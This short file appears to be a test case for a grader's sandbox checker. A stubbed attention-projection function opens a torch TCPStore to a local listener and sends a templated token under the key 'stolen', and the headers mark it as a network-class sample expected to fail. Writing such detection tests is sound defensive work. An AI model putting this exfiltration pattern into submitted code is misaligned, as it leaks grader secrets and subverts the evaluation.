# class: network
# base: stub
# expect: 0
# connects to a listener on the grader's machine (127.0.0.1) and sends data


def project_qkv(X, W_Q, W_K, W_V):
    store = torch.distributed.TCPStore("127.0.0.1", @PORT@, 2, False)
    store.set("stolen", "@TOKEN@")
    raise NotImplementedError("TODO(ex1)")
